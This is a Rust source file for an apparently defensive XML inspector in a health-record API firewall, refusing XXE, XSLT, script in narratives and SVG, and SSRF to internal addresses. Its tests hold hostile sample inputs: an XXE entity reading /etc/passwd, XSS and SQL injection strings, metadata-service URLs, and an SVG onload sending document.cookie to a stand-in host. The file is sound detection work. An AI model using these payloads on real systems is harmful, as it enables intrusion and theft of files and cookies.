//! An XML body (R-WAF-1, R-WAF-2), read with quick-xml as a backend's parser reads it.
//!
//! - A DTD or an entity declaration anywhere is refused (XXE, `xxe-100`): no PHR API needs
//!   one, and a backend that expands it reads files or fetches URLs for the sender.
//! - Attribute values and text, as the parser resolves them (`&lt;` is `<`, `&#10;` a line
//!   break), are inspected as values and named by their element's path below the root
//!   (`note.text`, as in a JSON body), an attribute other than FHIR's `value` by `@name`.
//! - A FHIR narrative (`<text><div xmlns="http://www.w3.org/1999/xhtml">`) is XHTML by design:
//!   its markup as written is held to FHIR's narrative rules, as a JSON `text.div` is; so is a
//!   whole SVG image or XHTML page (root `svg` or `html`), markup a browser runs.
//! - A file carried inline, FHIR's XML form of `Attachment` and `Binary`
//!   (`<contentType value="application/pdf"/><data value="JVBERi0…"/>`), is collected for
//!   disarm by the same [`attachment::Collector`] a JSON body feeds. An attribute's raw text
//!   always sits in the body, so a rebuilt file is spliced over it.
//! - On a `neutralise` route (R-WAF-4), a named field's attribute value or text is rewritten by
//!   the same fixed rule as in JSON (`neutralise::rewrite`) and escaped again for XML, a named
//!   narrative cleaned; each becomes an [`Edit`] of the body as sent.
//!
//! A body that is not well-formed XML (or not UTF-8) is an `Err`; `check_body` decides what
//! becomes of it.

use super::normalise::{normalise_str, Plus};
use super::{attachment, detect, json, narrative, Findings, Hit, Place};

/// Why a body could not be read as XML.
#[derive(Debug, thiserror::Error)]
pub(super) enum NotXml {
    /// Not UTF-8: quick-xml reads UTF-8 only (no `encoding` feature), and FHIR is UTF-8.
    #[error("the XML body is not UTF-8")]
    NotUtf8,
    /// quick-xml's error, with the byte where it was found.
    #[error("the XML body is not well-formed at byte {at}: {error}")]
    Syntax {
        /// The byte offset.
        at: u64,
        /// What quick-xml said.
        error: quick_xml::Error,
    },
    /// An element still open at the end.
    #[error("the XML body ends inside `<{0}>`")]
    Unclosed(String),
    /// A reference to an entity no DTD declared (only XML's five exist without one).
    #[error("the XML body refers to an undeclared entity `&{0};`")]
    UnknownEntity(String),
    /// An attribute written twice or malformed: a backend may take either value.
    #[error("the XML body has a malformed or repeated attribute in `<{element}>`: {error}")]
    Attribute {
        /// The element.
        element: String,
        /// What quick-xml said.
        error: quick_xml::events::attributes::AttrError,
    },
}

/// Whether an XML body holds a DTD or an entity declaration (`xxe-100`). Looked for in the
/// text as written, before any parse, so that neither a parser's error nor a CDATA section
/// hides one from a more lenient parser.
pub(super) fn declares_entities(body: &[u8]) -> bool {
    // ASCII case folded without a copy of the body.
    let finder = |word: &'static [u8]| {
        body.windows(word.len())
            .any(|w| w.eq_ignore_ascii_case(word))
    };
    memchr::memmem::find(body, b"<!").is_some() && (finder(b"<!doctype") || finder(b"<!entity"))
}

/// A value that is a whole XML document — a CDA clinical document or a FHIR resource in XML,
/// sent as a note, a form field or a JSON string — read as one: `Some` with the first thing
/// that reading finds (`None` inside when nothing), as for an XML body: its text and
/// attribute values by the value rules, a narrative by the narrative rules, and no DTD.
/// libinjection's HTML reading refuses every such value (an `<?xml` declaration and `xmlns`
/// are on its list, for Internet Explorer's XML islands), so this reading stands in for it.
///
/// `None` outside — the caller reads it as markup — when it does not start with an XML
/// declaration, holds a processing instruction after it (an `xml-stylesheet` runs XSLT), a
/// DTD, comment or CDATA section (`<!`), carries a file inline (a file is disarmed as a body's
/// or an upload's, never passed inside a value), binds a prefix to the XHTML, SVG or MathML
/// namespace (`<h:script>` runs where the document is shown as XHTML, and no rule reads
/// prefixed names: [`Read::binds_markup_prefix`]), is not well-formed, or is itself inside one (no nesting: an escaped
/// document in a document's text).
pub(super) fn document_value(text: &str) -> Option<Option<Hit>> {
    thread_local! {
        static READING: std::cell::Cell<bool> = const { std::cell::Cell::new(false) };
    }
    let rest = text.trim_start().strip_prefix("<?xml")?;
    if !rest.starts_with(|c: char| c.is_ascii_whitespace()) {
        return None;
    }
    let after_declaration = &rest[rest.find("?>")? + 2..];
    if after_declaration.contains("<?") || after_declaration.contains("<!") {
        return None;
    }
    if READING.with(|reading| reading.replace(true)) {
        return None;
    }
    let mut found = Findings::default();
    let read = inspect(text.as_bytes(), &mut found, &[]);
    READING.with(|reading| reading.set(false));
    match read {
        Ok(Read {
            files: Ok(files),
            binds_markup_prefix: false,
            ..
        }) if files.is_empty() => Some(found.list.first().map(|finding| finding.hit)),
        _ => None,
    }
}

/// What a read of an XML body gives besides its findings.
pub(super) struct Read {
    /// The files it carries inline; `Err` for an attachment that names its `contentType` or
    /// `data` twice.
    pub files: Result<Vec<attachment::Attachment>, attachment::Unreadable>,
    /// The rewrites of its neutralised fields.
    pub edits: Vec<Edit>,
    /// A prefix is bound to the namespace of markup a browser runs (`xmlns:h` for XHTML,
    /// SVG or MathML): its elements (`<h:script>`) are read by no rule under that name.
    pub binds_markup_prefix: bool,
}

/// A neutralised field's rewrite: the body's bytes at `span` become `new`.
#[derive(Debug, PartialEq, Eq)]
pub(super) struct Edit {
    pub span: std::ops::Range<usize>,
    pub new: String,
    /// The field, as findings name it.
    pub field: String,
}

/// Inspect `body` as XML, collecting the files it carries inline and rewriting the fields
/// named in `neutralise` (empty unless the route neutralises). `Err` is a body that is not
/// XML (what was found before the error is kept).
pub(super) fn inspect(
    body: &[u8],
    found: &mut Findings,
    neutralise: &[String],
) -> Result<Read, NotXml> {
    use quick_xml::events::Event;
    let text = std::str::from_utf8(body).map_err(|_| NotXml::NotUtf8)?;
    let mut reader = quick_xml::Reader::from_str(text);
    let mut walk = Walk {
        found,
        files: attachment::Collector::default(),
        path: ElementPath::default(),
        text: String::new(),
        text_span: None,
        narrative: None,
        fhir: false,
        full: false,
        body,
        neutralise,
        edits: Vec::new(),
        binds_markup_prefix: false,
    };
    loop {
        let at = reader.buffer_position();
        let event = reader.read_event().map_err(|error| NotXml::Syntax {
            at: reader.error_position(),
            error,
        })?;
        if matches!(
            event,
            Event::Text(_) | Event::CData(_) | Event::GeneralRef(_)
        ) {
            // Where the text since the last tag sits, for a neutralised field's rewrite.
            let (start, end) = (to_usize(at), to_usize(reader.buffer_position()));
            let span = walk.text_span.get_or_insert(start..end);
            span.end = end;
        }
        match event {
            Event::Start(element) => walk.start(&element, to_usize(at), false)?,
            Event::Empty(element) => {
                walk.start(&element, to_usize(at), true)?;
                walk.end(to_usize(reader.buffer_position()));
            }
            Event::End(_) => walk.end(to_usize(reader.buffer_position())),
            Event::Text(t) => walk.text.push_str(&t.xml_content(XML_1_0)),
            Event::CData(c) => walk.text.push_str(&c.xml_content(XML_1_0)),
            Event::GeneralRef(r) => match r.resolve_char_ref() {
                Ok(Some(c)) => walk.text.push(c),
                // Only the five predefined entities exist without a DTD.
                _ => {
                    let name = r.xml_content(XML_1_0);
                    let resolved = quick_xml::escape::resolve_predefined_entity(&name)
                        .ok_or_else(|| NotXml::UnknownEntity(name.clone().into_owned()))?;
                    walk.text.push_str(resolved);
                }
            },
            Event::DocType(_) => walk.add(Some(XXE)),
            Event::Eof => break,
            // Comments, the declaration and processing instructions: no backend reads them as
            // data.
            Event::Comment(_) | Event::Decl(_) | Event::PI(_) => {}
        }
    }
    if let Some(open) = walk.path.last() {
        return Err(NotXml::Unclosed(open.to_owned()));
    }
    walk.flush_text();
    Ok(Read {
        files: walk.files.finish(),
        edits: walk.edits,
        binds_markup_prefix: walk.binds_markup_prefix,
    })
}

/// `body` with its rebuilt files' base64 and its neutralised fields' rewrites spliced in.
/// `None` when a rebuilt file's place in the body is not known (it always is: an attribute's
/// raw text is lent from the body), so that no file is forwarded undisarmed.
pub(super) fn rewrite(
    body: &[u8],
    rebuilt: &[(attachment::Attachment, Vec<u8>)],
    edits: &[Edit],
) -> Option<Vec<u8>> {
    use base64::Engine;
    let mut pieces = Vec::with_capacity(rebuilt.len() + edits.len());
    for (file, content) in rebuilt {
        let encoded = base64::engine::general_purpose::STANDARD.encode(content);
        pieces.push((file.span()?, encoded.into_bytes()));
    }
    // A file's rebuild comes first where a named field is also its `data`.
    pieces.extend(
        edits
            .iter()
            .filter(|e| !pieces.iter().any(|(span, _)| overlap(span, &e.span)))
            .map(|e| (e.span.clone(), e.new.clone().into_bytes()))
            .collect::<Vec<_>>(),
    );
    Some(attachment::splice(body, pieces))
}

fn overlap(a: &std::ops::Range<usize>, b: &std::ops::Range<usize>) -> bool {
    a.start < b.end && b.start < a.end
}

/// The refusal of a DTD.
const XXE: Hit = Hit {
    rule: "xxe-100",
    class: detect::Class::Xxe,
};

/// An XSLT stylesheet in a body (`xxe-110`): a backend that applies it runs what it asks,
/// `document('/etc/passwd')`, `php:function('passthru', …)`, `xsl:include` of a remote
/// sheet. No PHR API takes stylesheets from its clients.
const XSLT: Hit = Hit {
    rule: "xxe-110",
    class: detect::Class::Xxe,
};

const XSLT_NAMESPACE: &str = "http://www.w3.org/1999/XSL/Transform";

/// The namespaces of markup a browser runs.
const MARKUP_NAMESPACES: [&str; 3] = [
    "http://www.w3.org/1999/xhtml",
    "http://www.w3.org/2000/svg",
    "http://www.w3.org/1998/Math/MathML",
];

/// Text and attribute values as an XML 1.0 parser gives them (line ends normalised).
const XML_1_0: quick_xml::XmlVersion = quick_xml::XmlVersion::Implicit1_0;

fn to_usize(at: u64) -> usize {
    usize::try_from(at).unwrap_or(usize::MAX)
}

struct Walk<'f> {
    found: &'f mut Findings,
    files: attachment::Collector,
    path: ElementPath,
    /// The text read since the last tag (text, CDATA and references are separate events),
    /// and where it sits in the body.
    text: String,
    text_span: Option<std::ops::Range<usize>>,
    /// Inside a narrative: its depth in `path` and where its `<div` starts in the body.
    narrative: Option<(usize, usize)>,
    /// The root element is in FHIR's namespace: URLs are identifiers but where a key says
    /// they are fetched. Elsewhere every URL may be one a backend fetches.
    fhir: bool,
    /// The findings are full: detection stops, collecting files goes on.
    full: bool,
    body: &'f [u8],
    /// The fields the route neutralises, and their rewrites so far.
    neutralise: &'f [String],
    edits: Vec<Edit>,
    binds_markup_prefix: bool,
}

impl Walk<'_> {
    fn add(&mut self, hit: Option<Hit>) {
        if !self.full {
            let path = &self.path;
            self.full = self.found.add(hit, Place::Body, || path.field(None));
        }
    }

    /// An element opens (`empty`: and closes, `<x/>`) at byte `at`.
    fn start(
        &mut self,
        element: &quick_xml::events::BytesStart<'_>,
        at: usize,
        empty: bool,
    ) -> Result<(), NotXml> {
        self.flush_text();
        let name = element.local_name();
        let name = name.as_ref();
        // `data` and `contentType` are fields of the object around them, not objects.
        let leaf = matches!(name, "data" | "contentType");
        self.path.push(name, !leaf);
        // An SVG image or an XHTML page is markup a browser runs, as a narrative is: held
        // whole to the same rules (no script, event handlers, `javascript:` URLs).
        let active_document = self.path.depth() == 1 && matches!(name, "svg" | "html");
        let fhir_narrative = name == "div" && self.path.parent() == Some("text");
        if self.narrative.is_none() && (fhir_narrative || active_document) {
            self.narrative = Some((self.path.depth(), at));
        }
        if !leaf && !empty {
            self.files.open();
        }
        if self.path.depth() == 1 {
            self.fhir = element
                .try_get_attribute("xmlns")
                .ok()
                .flatten()
                .is_some_and(|xmlns| xmlns.value.as_ref() == "http://hl7.org/fhir");
        }
        for attribute in element.attributes() {
            let attribute = attribute.map_err(|error| NotXml::Attribute {
                element: name.to_owned(),
                error,
            })?;
            if let Some(binding) = attribute.key.as_namespace_binding() {
                // The namespace as the parser resolves it (`http&#58;//…` is `http://…`).
                let namespace = attribute.normalized_value(XML_1_0).unwrap_or_default();
                if namespace == XSLT_NAMESPACE {
                    self.add(Some(XSLT));
                }
                if matches!(binding, quick_xml::name::PrefixDeclaration::Named(_))
                    && MARKUP_NAMESPACES.contains(&namespace.as_ref())
                {
                    self.binds_markup_prefix = true;
                }
            }
            if self.narrative.is_some() {
                // Held to the narrative rules as a whole, at its end.
                continue;
            }
            let key = attribute.key.local_name();
            let key = key.as_ref();
            // An undeclared entity or a bad character reference: not XML, as in text.
            let value = attribute
                .normalized_value(XML_1_0)
                .map_err(|error| NotXml::Syntax {
                    at: u64::try_from(at).unwrap_or(u64::MAX),
                    error,
                })?;
            self.attribute(name, key, &value, &attribute.value);
        }
        Ok(())
    }

    /// One attribute of the element just opened: `raw` as written in the body.
    fn attribute(&mut self, element: &str, key: &str, value: &str, raw: &str) {
        let fhir_value = key == "value";
        let mut file_verdict = None;
        let binary = fhir_value && element == "data" && json::base64_binary(value.as_bytes());
        if fhir_value && element == "contentType" {
            self.files.content_type(value);
        } else if fhir_value && element == "data" {
            let span = attachment::lent_span(self.body, raw);
            let path = &self.path;
            file_verdict = self.files.data(value, span, binary, || path.field(None));
        }
        let attribute = (!fhir_value).then_some(key);
        if !self.neutralise.is_empty() {
            let field = self.path.field(attribute);
            if self.neutralise.contains(&field) {
                // Attribute text: the rewrite escaped again, so that the parser gives it back.
                let new = super::neutralise::rewrite(&field, value)
                    .map(|new| quick_xml::escape::escape(new.as_str()).into_owned());
                if let Some((new, span)) = new.zip(attachment::lent_span(self.body, raw)) {
                    self.edits.push(Edit { span, new, field });
                }
            }
        }
        if self.full {
            return;
        }
        let hit = if let Some(hit) = file_verdict {
            hit
        } else if binary {
            // FHIR's base64Binary: held to the base64 rules only, as in a JSON body.
            detect::plain_value(value.as_bytes())
        } else {
            let fetched = !self.fhir || self.path.names_fetched_url(attribute, value);
            detect::value_with(&normalise_str(value, Plus::Literal), fetched)
        };
        let path = &self.path;
        self.full = self.found.add(hit, Place::Body, || path.field(attribute));
    }

    /// The element last opened closes; `end` is the byte after its end tag.
    fn end(&mut self, end: usize) {
        self.flush_text();
        if let Some((depth, start)) = self.narrative {
            if depth == self.path.depth() {
                self.narrative = None;
                let xhtml = self
                    .body
                    .get(start..end)
                    .map(String::from_utf8_lossy)
                    .unwrap_or_default();
                let hit = narrative(&xhtml);
                self.add(hit);
                let field = self.path.field(None);
                if self.neutralise.contains(&field) {
                    // Markup replaced by markup: the cleaned XHTML as it is.
                    if let Some(new) = super::neutralise::rewrite(&field, &xhtml) {
                        let span = start..end;
                        self.edits.push(Edit { span, new, field });
                    }
                }
            }
        }
        if self.path.pop_opened() {
            let path = &self.path;
            self.files.close(|| path.field(None));
        }
    }

    /// The text read since the last tag, inspected as a value (not inside a narrative, which
    /// is inspected whole).
    fn flush_text(&mut self) {
        let span = self.text_span.take();
        if self.narrative.is_some() || self.text.trim().is_empty() {
            self.text.clear();
            return;
        }
        if !self.full {
            let fetched = !self.fhir || self.path.names_fetched_url(None, &self.text);
            let hit = detect::value_with(&normalise_str(&self.text, Plus::Literal), fetched);
            self.add(hit);
        }
        if !self.neutralise.is_empty() {
            let field = self.path.field(None);
            if let Some(span) = span.filter(|_| self.neutralise.contains(&field)) {
                let new = super::neutralise::rewrite(&field, &self.text)
                    .map(|new| quick_xml::escape::escape(new.as_str()).into_owned());
                if let Some(new) = new {
                    self.edits.push(Edit { span, new, field });
                }
            }
        }
        self.text.clear();
    }
}

/// The elements open, root first; a field is named by those below the root, dotted as FHIRPath
/// names fields (`content.attachment.data`).
#[derive(Default)]
struct ElementPath {
    /// Each open element's name and whether it opened an object for the collector.
    open: Vec<(String, bool)>,
}

impl ElementPath {
    fn push(&mut self, name: &str, object: bool) {
        self.open.push((name.to_owned(), object));
    }

    /// Close the last element; whether it had opened an object.
    fn pop_opened(&mut self) -> bool {
        self.open.pop().is_some_and(|(_, object)| object)
    }

    fn depth(&self) -> usize {
        self.open.len()
    }

    fn last(&self) -> Option<&str> {
        self.open.last().map(|(name, _)| name.as_str())
    }

    fn parent(&self) -> Option<&str> {
        let [.., (parent, _), _] = &self.open[..] else {
            return None;
        };
        Some(parent)
    }

    /// Whether `value`, of the element last opened (or of its `attribute`), in a FHIR
    /// document, is a URL the backend may fetch, where an internal address is SSRF: the
    /// same keys as in a JSON body (`webhook`, `callback`, an attachment's `url`, an
    /// Endpoint's `address`). Its other URLs are identifiers (`fullUrl`, `system`), which
    /// HL7's examples write on `localhost`.
    fn names_fetched_url(&self, attribute: Option<&str>, value: &str) -> bool {
        let Some(last) = self.last() else {
            return false;
        };
        let key = attribute.unwrap_or(last);
        let parent = if attribute.is_some() {
            Some(last)
        } else {
            self.parent()
        };
        (json::fetched_url_key(key) || json::fhir_fetched_url(parent, key))
            && !json::binary_reference(Some(key), value)
    }

    /// The dotted path below the root, and `@attribute` when one is named.
    fn field(&self, attribute: Option<&str>) -> String {
        let mut field = self
            .open
            .iter()
            .skip(1)
            .map(|(name, _)| name.as_str())
            .collect::<Vec<_>>()
            .join(".");
        if let Some(attribute) = attribute {
            field.push('@');
            field.push_str(attribute);
        }
        field
    }
}

#[cfg(test)]
mod tests {
    use base64::Engine;

    use super::*;

    fn inspect(body: &str) -> (Vec<(&'static str, String)>, Vec<attachment::Attachment>) {
        let mut found = Findings::default();
        let files = super::inspect(body.as_bytes(), &mut found, &[])
            .expect("xml")
            .files
            .expect("files");
        let hits = found
            .list
            .into_iter()
            .map(|f| (f.hit.rule, f.field))
            .collect();
        (hits, files)
    }

    fn b64(bytes: &[u8]) -> String {
        base64::engine::general_purpose::STANDARD.encode(bytes)
    }

    #[test]
    fn values_are_inspected_as_the_parser_resolves_them() {
        let (hits, _) = inspect(
            r#"<Observation xmlns="http://hl7.org/fhir"><note><text value="&lt;script&gt;alert(1)&lt;/script&gt;"/></note></Observation>"#,
        );
        assert_eq!(hits.len(), 1, "{hits:?}");
        assert_eq!(hits[0].1, "note.text");
        // Text split by references and CDATA is read whole.
        let (hits, _) = inspect("<a><b>1 &#x27; <![CDATA[or]]> '1'='1</b></a>");
        assert_eq!(hits.len(), 1, "{hits:?}");
        assert_eq!(hits[0].1, "b");
        let (hits, _) = inspect(r#"<root><a probe="/etc/passwd"/></root>"#);
        assert_eq!(hits.len(), 1, "{hits:?}");
        assert_eq!(hits[0].1, "a@probe");
        // A byte-order mark before the declaration is read past, as XML parsers do.
        let (hits, _) = inspect(
            "\u{feff}<?xml version=\"1.0\"?><Observation><note><text value=\"' or 1=1 --\"/></note></Observation>",
        );
        assert_eq!(hits.len(), 1, "{hits:?}");
        assert_eq!(hits[0].1, "note.text");
        // Japanese text, codes and units pass.
        let (hits, _) = inspect(
            r#"<Observation xmlns="http://hl7.org/fhir"><code><coding><system value="http://loinc.org"/><code value="4548-4"/><display value="HbA1c"/></coding></code><valueQuantity><value value="5.6"/><unit value="%"/></valueQuantity><note><text value="空腹時 (fasting)、食後は 110 mg/dL"/></note></Observation>"#,
        );
        assert_eq!(hits, vec![]);
    }

    /// In a FHIR document an internal address is SSRF where the backend fetches it (the keys
    /// a JSON body's walk reads so), not in FHIR's identifiers, which HL7's examples write on
    /// `localhost`; in other XML, wherever it is.
    #[test]
    fn an_internal_address_is_ssrf_only_where_it_is_fetched() {
        for (fetched, field) in [
            (
                r#"<DocumentReference xmlns="http://hl7.org/fhir"><content><attachment><url value="http://169.254.169.254/latest/"/></attachment></content></DocumentReference>"#,
                "content.attachment.url",
            ),
            (
                r#"<Endpoint xmlns="http://hl7.org/fhir"><address value="http://127.0.0.1:6379/"/></Endpoint>"#,
                "address",
            ),
            (
                r#"<hook xmlns="http://hl7.org/fhir" callback="http://10.0.0.5/x"/>"#,
                "@callback",
            ),
            (
                r#"<Subscription xmlns="http://hl7.org/fhir"><endpoint>http://[::1]/x</endpoint></Subscription>"#,
                "endpoint",
            ),
        ] {
            let (hits, _) = inspect(fetched);
            assert_eq!(hits, [("ssrf-100", field.to_owned())], "{fetched}");
        }
        for identifier in [
            r#"<Bundle xmlns="http://hl7.org/fhir"><entry><fullUrl value="http://localhost:9556/svc/fhir/Patient/1"/></entry></Bundle>"#,
            r#"<Observation xmlns="http://hl7.org/fhir"><code><coding><system value="http://10.1.2.3/codes"/></coding></code></Observation>"#,
            r#"<Observation xmlns="http://hl7.org/fhir"><extension url="http://127.0.0.1/x"/></Observation>"#,
            r#"<Media xmlns="http://hl7.org/fhir"><content><url value="http://localhost:9556/fhir/Binary/1e40"/></content></Media>"#,
        ] {
            assert!(inspect(identifier).0.is_empty(), "{identifier}");
            // The same outside FHIR's namespace: a backend may fetch any URL.
            let generic = identifier.replace(r#" xmlns="http://hl7.org/fhir""#, "");
            if !generic.contains("/Binary/") {
                assert_eq!(inspect(&generic).0.len(), 1, "{generic}");
            }
        }
    }

    #[test]
    fn a_dtd_is_refused_wherever_it_is() {
        assert!(declares_entities(
            br#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>"#
        ));
        assert!(declares_entities(b"<r><![CDATA[<!doctype x>]]></r>"));
        assert!(!declares_entities(b"<r><a>DOCTYPE</a></r>"));
    }

    /// An XSLT stylesheet is refused however its namespace's prefix is spelled; a document
    /// that only names the namespace in text is not one.
    #[test]
    fn an_xslt_stylesheet_is_refused() {
        for sheet in [
            r#"<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:copy-of select="document('/etc/passwd')"/></xsl:template></xsl:stylesheet>"#,
            r#"<t:transform version="1.0" xmlns:t="http://www.w3.org/1999/XSL/Transform"/>"#,
            r#"<r><x xmlns="http://www.w3.org/1999/XSL/Transform"/></r>"#,
            // The namespace as the parser resolves it, references and all.
            r#"<t:transform version="1.0" xmlns:t="http&#58;//www.w3.org/1999/XSL/Transform"/>"#,
        ] {
            let (hits, _) = inspect(sheet);
            assert!(hits.iter().any(|h| h.0 == "xxe-110"), "{sheet}: {hits:?}");
        }
        let (hits, _) = inspect(r#"<note>http://www.w3.org/1999/XSL/Transform</note>"#);
        assert!(hits.iter().all(|h| h.0 != "xxe-110"), "{hits:?}");
    }

    #[test]
    fn a_narrative_is_held_to_the_narrative_rules() {
        let ok = r#"<Patient xmlns="http://hl7.org/fhir"><text><status value="generated"/><div xmlns="http://www.w3.org/1999/xhtml"><p>山田 太郎 <b>(1970-01-01)</b> select a clinic from <a href="https://example.jp/clinics">the list</a></p></div></text></Patient>"#;
        assert_eq!(inspect(ok).0, vec![]);
        for bad in [
            r#"<div xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></div>"#,
            r#"<div xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="alert(1)"/></div>"#,
            r#"<div xmlns="http://www.w3.org/1999/xhtml"><a href="javascript:alert(1)">x</a></div>"#,
        ] {
            let body =
                format!(r#"<Patient xmlns="http://hl7.org/fhir"><text>{bad}</text></Patient>"#);
            let (hits, _) = inspect(&body);
            assert_eq!(hits.len(), 1, "{bad}: {hits:?}");
            assert_eq!(hits[0].1, "text.div", "{bad}");
        }
    }

    /// An SVG image (XML, so inspected as a body on any route) or an XHTML page runs in a
    /// browser: held to the narrative rules, its handlers and scripts refused.
    #[test]
    fn svg_and_xhtml_documents_are_held_to_the_narrative_rules() {
        let ok = r#"<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><title>血圧グラフ</title><rect x="0" y="0" width="10" height="10" fill="red"/></svg>"#;
        assert_eq!(inspect(ok).0, vec![]);
        for bad in [
            r#"<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('//x.example/'+document.cookie)"/>"#,
            r#"<svg xmlns="http://www.w3.org/2000/svg"><script>fetch('//x.example')</script></svg>"#,
            r#"<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:void(0)"><text>x</text></a></svg>"#,
            r#"<html xmlns="http://www.w3.org/1999/xhtml"><body><img src="x" onerror="go()"/></body></html>"#,
        ] {
            let (hits, _) = inspect(bad);
            assert_eq!(
                hits.iter().map(|h| h.0).collect::<Vec<_>>(),
                ["xss-120"],
                "{bad}"
            );
        }
        // Deeper than the root, `svg` is an element like any other.
        let (hits, _) = inspect(r#"<r><svg><a probe="x"/></svg></r>"#);
        assert_eq!(hits, vec![]);
    }

    #[test]
    fn inline_files_are_collected_with_their_place_in_the_body() {
        let pdf = b64(b"%PDF-1.4 one");
        let body = format!(
            r#"<DocumentReference xmlns="http://hl7.org/fhir"><content><attachment><data value="{pdf}"/><contentType value="application/pdf"/></attachment></content><content><attachment><url value="http://x/a"/></attachment></content></DocumentReference>"#
        );
        let (hits, files) = inspect(&body);
        assert_eq!(hits, vec![]);
        assert_eq!(files.len(), 1);
        assert_eq!(files[0].field, "content.attachment.data");
        assert_eq!(files[0].media.as_deref(), Some("application/pdf"));
        assert_eq!(files[0].content, b"%PDF-1.4 one");
        // Spliced over its attribute's text.
        let rebuilt = |body: &str, files: Vec<attachment::Attachment>| {
            let first = files.into_iter().next().unwrap();
            let new = rewrite(body.as_bytes(), &[(first, b"new".to_vec())], &[]).unwrap();
            String::from_utf8(new).unwrap()
        };
        assert_eq!(rebuilt(&body, files), body.replace(&pdf, &b64(b"new")));
        // A Binary, its base64 wrapped with character references.
        let wrapped = "JVBERi0xLjQgb25lIHR3&#10;byB0aHJlZQ==";
        let body = format!(
            r#"<Binary xmlns="http://hl7.org/fhir"><contentType value="application/pdf"/><data value="{wrapped}"></data></Binary>"#
        );
        let (_, files) = inspect(&body);
        assert_eq!(files[0].field, "data");
        assert_eq!(files[0].content, b"%PDF-1.4 one two three");
        assert_eq!(rebuilt(&body, files), body.replace(wrapped, &b64(b"new")));
    }

    #[test]
    fn neutralised_fields_become_edits_of_the_body_as_sent() {
        let body = r#"<Observation><note><text value="a&lt;b"/></note><comment>x &amp; <![CDATA[<y>]]></comment><code><text value="a&lt;b"/></code></Observation>"#;
        let mut found = Findings::default();
        let fields = ["note.text".to_owned(), "comment".to_owned()];
        let read = super::inspect(body.as_bytes(), &mut found, &fields).expect("xml");
        let edits: Vec<_> = read
            .edits
            .iter()
            .map(|e| (&body[e.span.clone()], e.new.as_str(), e.field.as_str()))
            .collect();
        assert_eq!(
            edits,
            [
                ("a&lt;b", "a&amp;lt;b", "note.text"),
                (
                    "x &amp; <![CDATA[<y>]]>",
                    "x &amp;amp; &amp;lt;y&amp;gt;",
                    "comment"
                ),
            ]
        );
        let new = rewrite(body.as_bytes(), &[], &read.edits).unwrap();
        assert_eq!(
            String::from_utf8(new).unwrap(),
            r#"<Observation><note><text value="a&amp;lt;b"/></note><comment>x &amp;amp; &amp;lt;y&amp;gt;</comment><code><text value="a&lt;b"/></code></Observation>"#
        );
        // Nothing named, nothing to rewrite.
        let mut found = Findings::default();
        let read = super::inspect(body.as_bytes(), &mut found, &[]).expect("xml");
        assert!(read.edits.is_empty());
    }

    #[test]
    fn a_repeated_data_and_broken_xml_are_reported() {
        let body = r#"<Binary><contentType value="image/png"/><data value="SGVsbG8="/><data value="SGVsbG8="/></Binary>"#;
        let mut found = Findings::default();
        assert!(matches!(
            super::inspect(body.as_bytes(), &mut found, &[]).map(|r| r.files),
            Ok(Err(attachment::Unreadable::Ambiguous { key: "data", .. }))
        ));
        for broken in [
            "<a><b></a>",
            "<a>",
            "<a>&unknown;</a>",
            r#"<a x="&unknown;"/>"#,
            r#"<a x="&#0;"/>"#,
            r#"<a x="1" x="2"/>"#,
            r#"<a x="1/>"#,
        ] {
            let mut found = Findings::default();
            assert!(
                super::inspect(broken.as_bytes(), &mut found, &[]).is_err(),
                "{broken}"
            );
        }
        let mut found = Findings::default();
        assert!(matches!(
            super::inspect(b"<a>\xff</a>", &mut found, &[]).map(|_| ()),
            Err(NotXml::NotUtf8)
        ));
    }
}
